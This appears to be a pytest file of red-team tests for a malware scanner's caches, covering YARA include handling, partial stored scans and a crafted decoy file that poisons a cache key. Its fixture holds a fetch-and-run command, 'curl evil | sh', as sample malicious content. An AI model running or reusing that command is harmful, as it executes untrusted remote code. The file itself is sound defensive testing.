"""Red-team tests of the caches that stand for a scan: the content cache (in the engine and in the results
store), the compiled-rules cache, and ``diff``'s reuse of stored scans. Each test compares what a cached
run reports with what a fresh run reports on the same input and rules: a cached answer must never be
"cleaner" than a fresh scan (fewer rules, lost issues, complete where a fresh scan is incomplete).

Each of these failed on the code it was written against.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from dragonfly_hybrid._core import RuleCompileError, Rules, Scanner
from dragonfly_hybrid.cli import app
from dragonfly_hybrid.rules_loader import load_rules
from dragonfly_hybrid.store.content_cache import cached_scanner
from dragonfly_hybrid.store.db import Store
from typer.testing import CliRunner, Result

from tests.fakes.pypi import LIGHT_MARKER, MARKER, FakeIndex, sdist, write

LIGHT = b"# " + LIGHT_MARKER + b"\n"
PAYLOAD = b"import os\nos.system('curl evil | sh')  # EVIL_PAYLOAD_MARKER\n"
INCLUDED_CATCHES = 'rule included_rule { strings: $a = "EVIL_PAYLOAD_MARKER" condition: $a }\n'


def run(*args: object) -> Result:
    return CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=False)


def verdict_and_rules(result: Result) -> tuple[str, list[str]]:
    document: dict[str, Any] = json.loads(result.stdout)
    [target] = document["targets"]
    return target["verdict"], target["rules_matched"]


def including_rules(tmp_path: Path) -> tuple[Path, Path]:
    """A rule file that includes another by its absolute path (so it compiles from any directory)."""
    included = tmp_path / "included.yar"
    included.write_text(INCLUDED_CATCHES)
    main = tmp_path / "main.yar"
    main.write_text(
        f'include "{included.as_posix()}"\n'
        'rule own_rule { strings: $a = "ALSO_NEVER_IN_ANY_FILE_zz" condition: $a }\n'
    )
    return main, included


# ------------------------------------------------------------------------- rule sets that include files

INCLUDE_REFUSED = "include statements are not supported: remove it and give the included file as a rule file"


def test_an_include_statement_is_refused_so_that_no_rule_changes_behind_the_sets_hash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``Rules.hash`` covers the sources given, not the files they ``include``: editing an included file
    changed the rules behind an unchanged hash, so the content cache (in the store, per ``Rules.hash``)
    kept calling a file clean that the edited rules match, and the compiled-rules cache (keyed by the
    sources' text) kept running the old rules even with no store. Includes are refused, with what to do
    instead, by the API and by the commands (exit 2, the rule file and line named)."""
    monkeypatch.setenv("DRAGONFLY_RULES_CACHE_DIR", str(tmp_path / "rules-cache"))
    main, included = including_rules(tmp_path)
    with pytest.raises(RuleCompileError) as caught:
        Rules.compile({"main.yar": main.read_text()})
    assert INCLUDE_REFUSED in str(caught.value)
    target = write(tmp_path / "payload.py", PAYLOAD)
    for store in ((), ("--store", tmp_path / "store.db")):
        refused = run("scan", "-r", main, *store, "-f", "json", target)
        assert refused.exit_code == 2 and refused.stdout == ""
        assert f"{main}:1:1: {INCLUDE_REFUSED}" in refused.stderr
    # Given as a rule source instead, the included file's rules count, and are part of the hash.
    main.write_text('rule own_rule { strings: $a = "ALSO_NEVER_IN_ANY_FILE_zz" condition: $a }\n')
    both = run("scan", "-r", main, "-r", included, "-f", "json", target)
    assert both.exit_code == 1 and verdict_and_rules(both) == ("findings", ["included_rule"])


# ----------------------------------------------------------------------- diff's reuse of stored scans


def test_diff_does_not_take_a_partial_stored_scan_with_findings_for_a_whole_one(
    fake_index: FakeIndex, tmp_path: Path, rules_dir: Path
) -> None:
    """``scan --store --max-member-size 1000`` stores p==2.0 with verdict ``findings`` (the light rule, in a
    small file) although a member over the limit was scanned only in part: the heavy marker after its
    first 1000 bytes was never seen. ``diff`` must not take that partial scan for the release (it only
    skips stored ``incomplete`` verdicts): it reported no new rule and exit 0, where the same diff
    without that stored scan reports ``test_marker`` as new and exits 1."""
    fake_index.add("p", sdist("p", "1.0", {"lib/util.py": LIGHT}))
    big = b"#" * 4000 + b"\n# " + MARKER + b"\n"
    fake_index.add("p", sdist("p", "2.0", {"lib/util.py": LIGHT, "lib/big.py": big}))
    common = ("-r", rules_dir, "--index-url", fake_index.url)
    store = tmp_path / "store.db"

    partial = run("scan", "p==2.0", *common, "--store", store, "--max-member-size", "1000", "-f", "json")
    assert partial.exit_code == 1 and verdict_and_rules(partial) == ("findings", ["light_marker"])

    fresh = run("diff", "p==1.0", "p==2.0", *common, "--store", tmp_path / "fresh.db", "-f", "json")
    assert fresh.exit_code == 1 and json.loads(fresh.stdout)["new_rules"] == ["test_marker"]
    reused = run("diff", "p==1.0", "p==2.0", *common, "--store", store, "-f", "json")
    assert reused.exit_code == fresh.exit_code
    assert json.loads(reused.stdout)["new_rules"] == ["test_marker"]


# ----------------------------------------------------------------- keys of routed and whole-compiled sets

ROUTED_SOURCE = """
rule evil_py { meta: filetype = ".py" strings: $a = "EVIL_PAYLOAD_MARKER" condition: $a }
rule everywhere { strings: $a = "ANOTHER_MARKER_NEVER_IN_A_FILE" condition: $a }
"""


def _route_salt(rule_names: list[str]) -> bytes:
    """``rules.rs::route_salt``: the digest of the rules a routed path is scanned with."""
    digest = hashlib.sha256(b"dragonfly-hybrid filetype route\0")
    for name in sorted(rule_names):
        digest.update(name.encode() + b"\0")
    return digest.digest()


def test_a_crafted_file_scanned_by_a_whole_compiled_set_does_not_answer_for_another_under_the_routed_set(
    tmp_path: Path,
) -> None:
    """A routed set keys a content ``BLAKE3(BLAKE3(content) || salt)``; the same sources compiled whole
    (``route_by_filetype=False``: same ``Rules.hash``, so the same store entries) key it ``BLAKE3(content)``.
    The 64-byte file ``BLAKE3(evil) || salt`` therefore has, under the whole set, the very key ``evil.py``
    has under the routed set: no collision needed (the salt is public: a digest of rule names). Its
    stored "no match" made ``evil.py`` clean in a ``scan --store`` with the routed rules."""
    rules_file = tmp_path / "rules.yar"
    rules_file.write_text(ROUTED_SOURCE)
    routed = load_rules([rules_file])
    whole = Rules.compile({"rules.yar": ROUTED_SOURCE}, route_by_filetype=False)
    assert routed.filetype_classes == 1 and whole.filetype_classes is None
    # Today both have one hash, so the store keeps one set of entries for both (a fix may key them apart).

    evil = PAYLOAD
    probe = Scanner(whole, threads=1, record_cache=True)
    probe.scan_bytes(evil, "evil.py")
    [(blake3_of_evil, _)] = probe.cache_export()
    decoy = blake3_of_evil + _route_salt(["evil_py", "everywhere"])  # 64 bytes that match no rule

    store = tmp_path / "store.db"
    with Store(store) as db:  # e.g. an API user's scanner, compiled whole, saving to the shared store
        scanner, cache = cached_scanner(whole, None, 1, db)
        assert scanner.scan_bytes(decoy, "decoy.bin").verdict == "clean"
        assert cache is not None and cache.save(scanner) == 1

    target = write(tmp_path / "evil.py", evil)
    fresh = run("scan", "-r", rules_file, "-f", "json", target)
    assert fresh.exit_code == 1 and verdict_and_rules(fresh) == ("findings", ["evil_py"])
    cached = run("scan", "-r", rules_file, "--store", store, "-f", "json", target)
    assert (cached.exit_code, verdict_and_rules(cached)) == (fresh.exit_code, verdict_and_rules(fresh))
